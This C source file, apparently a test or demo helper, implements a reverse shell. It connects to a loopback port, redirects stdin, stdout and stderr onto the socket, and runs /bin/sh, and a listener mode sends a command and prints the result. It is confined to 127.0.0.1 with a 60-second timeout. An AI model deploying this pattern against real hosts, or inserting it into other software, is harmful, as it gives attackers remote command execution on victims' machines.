// revshell PORT: connects to PORT on the loopback and puts a shell on the socket. `revshell -l PORT
// TEXT` is the other side: it waits for the connection, sends TEXT and a newline, and prints what
// comes back.
#include <arpa/inet.h>
#include <err.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int attacker(struct sockaddr_in *at, const char *text)
{
    int on = 1, listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
    if (bind(listener, (struct sockaddr *)at, sizeof(*at)) != 0 || listen(listener, 1) != 0)
        err(1, "listen");
    puts("listening");
    fflush(stdout);
    int s = accept(listener, NULL, NULL);
    if (s < 0 || dprintf(s, "%s\nexit\n", text) < 0)
        err(1, "accept");
    char bytes[4096];
    for (ssize_t n; (n = read(s, bytes, sizeof(bytes))) > 0;)
        fwrite(bytes, 1, (size_t)n, stdout);
    return 0;
}

int main(int argc, char **argv)
{
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    alarm(60);
    if (argc == 4 && strcmp(argv[1], "-l") == 0) {
        at.sin_port = htons((unsigned short)strtoul(argv[2], NULL, 10));
        return attacker(&at, argv[3]);
    }
    if (argc != 2)
        errx(2, "usage: revshell PORT | revshell -l PORT TEXT");
    at.sin_port = htons((unsigned short)strtoul(argv[1], NULL, 10));
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), tries = 0;
    while (connect(s, (struct sockaddr *)&at, sizeof(at)) != 0) {
        if (++tries > 500)
            err(1, "connect");
        close(s);
        usleep(10000);
        s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    }
    for (int fd = 0; fd < 3; fd++)
        dup2(s, fd);
    char *shell[] = {"sh", NULL};
    execv("/bin/sh", shell);
    return 1;
}
